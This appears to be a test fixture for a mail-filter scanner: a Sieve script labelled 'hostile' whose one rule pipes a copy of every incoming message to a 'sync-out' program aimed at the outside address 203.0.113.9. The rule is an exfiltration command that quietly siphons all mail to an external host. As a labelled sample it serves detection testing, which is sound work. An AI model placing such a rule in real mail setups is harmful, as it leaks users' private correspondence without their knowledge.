# about: each message is handed to a program
# class: hostile
# expect: everything runs-program
require ["vnd.dovecot.pipe", "copy"];
pipe :copy "sync-out" ["--to", "203.0.113.9"];
